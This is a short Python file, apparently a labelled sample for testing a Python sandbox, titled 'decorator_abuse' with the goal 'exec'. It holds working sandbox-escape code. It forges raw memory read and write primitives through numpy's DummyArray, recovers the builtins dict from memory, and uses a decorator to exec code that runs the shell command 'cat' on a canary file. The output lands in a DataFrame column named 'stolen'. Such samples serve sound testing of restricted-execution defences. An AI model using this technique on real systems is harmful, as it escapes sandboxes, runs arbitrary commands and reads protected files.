# class: decorator_abuse
# technique: @(lambda fn: builtin['exec'](fn(), scope)) — a decorator that executes the source text its function returns (builtins dict forged from raw memory with numpy.lib.stride_tricks.DummyArray)
# goal: exec
import numpy as np
import pandas as pd
from numpy.lib.stride_tricks import DummyArray


def view(address, size):
    return np.asarray(DummyArray({"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}))


def peek(address):
    return int(view(address, 8).view(np.uint64)[0])


def poke(address, value):
    view(address, 8).view(np.uint64)[0] = value


def object_at(address):
    holder = [None]
    items = peek(id(holder) + 24)
    poke(address, peek(address) + 1)
    poke(items, address)
    return holder[0]


builtin = object_at(peek(id(view) + 24))

scope = {"cmd": "cat {{CANARY_FILE}}"}


@(lambda fn: builtin["exec"](fn(), scope))
def payload():
    return "import subprocess\nout = subprocess.getoutput(cmd)"


df = pd.DataFrame({"stolen": [scope["out"]]})
